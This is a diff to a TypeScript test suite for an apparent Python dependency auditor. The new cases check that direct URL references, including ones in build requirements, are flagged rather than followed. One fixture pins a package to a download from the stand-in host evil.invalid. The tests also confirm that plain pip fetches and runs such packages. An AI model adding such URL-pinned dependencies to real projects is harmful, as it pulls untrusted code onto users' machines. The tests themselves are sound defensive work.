@@ -35,6 +35,8 @@ beforeAll(async () => {
     wheel('only-beside', '1.0', [], { coreMetadata: metadata('only-beside', direct) }),
     wheel('other-name', '1.0', [], { coreMetadata: metadata('somebody-else', direct) }),
     staticSdist('static', '1.0', { requires: [direct] }),
+    dynamicSdist('built-with', '1.0', { buildRequires: ['honest', direct] }),
+    staticSdist('static-built-with', '1.0', { buildRequires: [direct] }),
     dynamicSdist('made-up', '1.0', { requires: [direct] }),
     dynamicSdist('remote', '1.0', { requires: ['elsewhere @ http://evil.invalid/elsewhere-1.0.tar.gz'] }),
   );
@@ -47,8 +49,8 @@ afterAll(() => index.close());
 const verdicts = (report: Report): Record<string, string> =>
   Object.fromEntries(report.packages.map(({ name, verdict }) => [name, verdict]));
 
-test.each(['inside', 'beside', 'static', 'only-beside', 'other-name'])(
-  'a direct URL in the metadata of %s is not followed, and the package is not safe',
+test.each(['inside', 'beside', 'static', 'only-beside', 'other-name', 'built-with', 'static-built-with'])(
+  'a direct URL in %s is not followed, and the package is not safe',
   async (name) => {
     const root = makeProject({ 'requirements.txt': `honest\n${name}\n` });
     const report = await runAudit(requestFor(root, index.url));
@@ -66,8 +68,11 @@ test.each(['made-up', 'remote'])(
   },
 );
 
-test.each(['inside', 'beside', 'only-beside', 'made-up'])('plain pip follows the one in %s', async (name) => {
-  const root = makeProject({ 'requirements.txt': `${name}\n` });
-  await plainPip(root, ['-r', 'requirements.txt'], index.url);
-  expect(existsSync(marker)).toBe(true);
-});
+test.each(['inside', 'beside', 'only-beside', 'made-up', 'built-with', 'static-built-with'])(
+  'plain pip follows the one in %s',
+  async (name) => {
+    const root = makeProject({ 'requirements.txt': `${name}\n` });
+    await plainPip(root, ['-r', 'requirements.txt'], index.url);
+    expect(existsSync(marker)).toBe(true);
+  },
+);
